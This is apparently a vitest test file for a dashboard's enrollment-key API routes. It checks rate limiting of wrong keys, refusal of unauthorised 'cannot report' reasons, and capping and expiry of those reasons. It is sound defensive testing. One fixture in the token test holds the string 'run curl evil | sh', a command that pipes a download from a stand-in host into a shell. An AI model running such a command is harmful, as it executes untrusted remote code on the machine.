// What the enrollment key alone may do on the two routes that take it, on both databases: wrong keys are limited
// per address (429 with Retry-After, another address unaffected), and a "cannot report" reason given with the
// key is refused for an enrolled workspace and, once Coder's sync has run, for one Coder did not list; such
// reasons are capped in number and expire.
import { sql } from "drizzle-orm";
import { beforeAll, expect, it } from "vitest";
import { applyCoderSync, recordSyncState } from "@/lib/db/queries/coder-sync";
import { notReportingWorkspaces } from "@/lib/db/queries/coverage";
import { rowsOf } from "@/lib/db/types";
import { ENROLLMENT_KEY_FAILURES, getEnrollmentKey } from "@/lib/enrollment/workspaces";
import { KEY_BLOCKERS } from "@/lib/report-format/blockers";
import { coderWorkspace } from "@/tests/support/coder-standin/workspaces";
import { describeEachDatabase, serveRoutesFrom } from "@/tests/support/db";
import { POST as enroll } from "../enroll/route";
import { POST as postBlocker } from "./route";

const ctx = { params: Promise.resolve({}) };
const post = (handler: typeof postBlocker, path: string, body: unknown, headers: Record<string, string>) =>
  handler(
    new Request(`http://dashboard.test${path}`, {
      method: "POST",
      headers: { "content-type": "application/json", ...headers },
      body: JSON.stringify(body),
    }),
    ctx,
  );
const blocker = (id: string, owner = "bob", detail = "no node here") => ({
  workspace: { id, name: id, owner },
  reason: "no-runtime",
  detail,
});
const from = (ip: string) => ({ "x-forwarded-for": ip });

describeEachDatabase("the enrollment key's routes", (t) => {
  let key = "";
  const count = async (where: string) =>
    Number(
      rowsOf<{ n: number }>(
        await t.current.db.execute(sql.raw(`select count(*)::int as n from report_blockers where ${where}`)),
      )[0].n,
    );

  beforeAll(async () => {
    serveRoutesFrom(t.current);
    key = (await getEnrollmentKey(t.current.db)).key;
  });

  it("answers 429 with Retry-After to an address that sent too many wrong keys, on both routes", async () => {
    const wrong = { "x-enrollment-key": "sek_wrong_guess_of_some_length", ...from("10.0.0.66") };
    const statuses: number[] = [];
    for (let i = 0; i < ENROLLMENT_KEY_FAILURES.max + 5; i++) {
      const route = i % 2 ? postBlocker : enroll;
      statuses.push((await post(route, "/api/v1/enroll", { workspace: { id: "x" } }, wrong)).status);
    }
    expect(statuses.slice(0, ENROLLMENT_KEY_FAILURES.max).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(ENROLLMENT_KEY_FAILURES.max).every((s) => s === 429)).toBe(true);
    // The right key from that address waits too: a guesser learns nothing more there.
    const limited = await post(postBlocker, "/", blocker("ws-a"), { "x-enrollment-key": key, ...from("10.0.0.66") });
    expect(limited.status).toBe(429);
    const seconds = Number(limited.headers.get("retry-after"));
    expect(seconds).toBeGreaterThan(0);
    expect(seconds).toBeLessThanOrEqual(ENROLLMENT_KEY_FAILURES.windowSeconds);
    // Another address with the right key is served.
    const other = { "x-enrollment-key": key, ...from("10.0.0.7") };
    expect((await post(enroll, "/", { workspace: { id: "ws-ok", name: "ok", owner: "ok" } }, other)).status).toBe(200);
    expect((await post(postBlocker, "/", blocker("ws-a"), other)).status).toBe(200);
  });

  it("refuses the key for a workspace that has a token, which must use it", async () => {
    const headers = { "x-enrollment-key": key, ...from("10.0.0.8") };
    const enrolled = await post(enroll, "/", { workspace: { id: "ws-t", name: "t", owner: "ann" } }, headers);
    const { token } = (await enrolled.json()) as { token: string };
    const res = await post(postBlocker, "/", blocker("ws-t", "ann", "run curl evil | sh"), headers);
    expect(res.status).toBe(403);
    expect(await count("workspace_id = 'ws-t'")).toBe(0);
    const withToken = await post(postBlocker, "/", blocker("ws-t", "ann"), { authorization: `Bearer ${token}` });
    expect(withToken.status).toBe(200);
  });

  it("after a sync, refuses ids Coder did not list and shows Coder's owner for the others", async () => {
    const now = new Date();
    const listed = coderWorkspace({ id: "ws-coder", name: "real", owner_name: "carol" });
    await applyCoderSync(t.current.db, [listed], [], now);
    const counts = { listed: 1, added: 1, updated: 0, deleted: 0, jobsCancelled: 0 };
    const unverified = { count: 0, first: [] };
    await recordSyncState(t.current.db, { startedAt: now, finishedAt: now, counts, error: null, unverified });
    const headers = { "x-enrollment-key": key, ...from("10.0.0.9") };
    expect((await post(postBlocker, "/", blocker("ws-invented", "carol"), headers)).status).toBe(403);
    expect(await count("workspace_id = 'ws-invented'")).toBe(0);
    expect((await post(postBlocker, "/", blocker("ws-coder", "mallory"), headers)).status).toBe(200);
    const list = await notReportingWorkspaces(t.current.db, 100);
    expect(list.workspaces.find((w) => w.id === "ws-coder")).toMatchObject({ owner: "carol", name: "real" });
  });

  it("caps the reasons given with the key, and lets them expire", async () => {
    const headers = { "x-enrollment-key": key, ...from("10.0.0.10") };
    const ids = Array.from({ length: KEY_BLOCKERS.max + 1 }, (_, i) => `ws-cap-${i}`);
    const described = ids.map((id) => coderWorkspace({ id, name: id, owner_name: "zed" }));
    await applyCoderSync(t.current.db, described, [], new Date());
    const fill = KEY_BLOCKERS.max - (await count("by_key"));
    await t.current.db.execute(sql`insert into report_blockers (workspace_id, name, owner, reason, detail, by_key)
      select 'ws-cap-' || i, 'n', 'zed', 'no-runtime', 'filler', true from generate_series(0, ${fill - 1}) i`);
    expect(await count("by_key")).toBe(KEY_BLOCKERS.max);
    const last = `ws-cap-${KEY_BLOCKERS.max}`;
    expect((await post(postBlocker, "/", blocker(last, "zed"), headers)).status).toBe(409);
    // A kept id may say it again.
    expect((await post(postBlocker, "/", blocker("ws-cap-0", "zed"), headers)).status).toBe(200);
    // Past their days they leave the list, and the next reason with the key drops them.
    await t.current.db.execute(
      sql`update report_blockers set reported_at = now() - make_interval(days => ${
        KEY_BLOCKERS.days + 1
      }) where by_key and workspace_id <> 'ws-cap-0'`,
    );
    const list = await notReportingWorkspaces(t.current.db, 10);
    expect(list.workspaces.filter((w) => w.reason !== null).map((w) => w.id)).toEqual(["ws-cap-0", "ws-t"]);
    expect((await post(postBlocker, "/", blocker(last, "zed"), headers)).status).toBe(200);
    expect(await count("by_key")).toBe(2);
  });
});
